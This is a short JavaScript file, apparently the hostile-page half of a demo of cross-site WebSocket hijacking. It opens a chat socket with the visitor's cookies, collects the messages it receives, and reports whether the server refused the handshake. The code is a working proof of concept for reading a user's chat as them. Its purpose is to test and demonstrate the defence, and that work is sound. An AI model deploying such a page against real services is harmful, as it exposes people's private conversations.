// What a hostile page does: it opens the chat's WebSocket with whatever cookies its visitor has, and reads along.
const show = (id, text) => {
  document.getElementById(id).textContent = text;
};

const { target, socket: address } = await (await fetch('/target')).json();
show('origin', location.origin);
show('target', address);

const heard = [];
let opened = false;
const socket = new WebSocket(address);
socket.onopen = () => {
  opened = true;
  setTimeout(() => socket.close(), 500);
};
socket.onmessage = ({ data }) => heard.push(data);
socket.onclose = ({ code }) => {
  show('saw', opened ? `the socket opened; heard: ${heard.join(' ')}` : `no socket, close code ${code}`);
  show(
    'verdict',
    opened ? 'Hijacked: this page reads the chat as you.' : 'Held: the handshake was refused before the 101.',
  );
  // The demo's page, which opened this one, shows the outcome; a real attacker would rather not tell.
  window.opener?.postMessage({ attack: 'hijack', opened, code }, target);
};
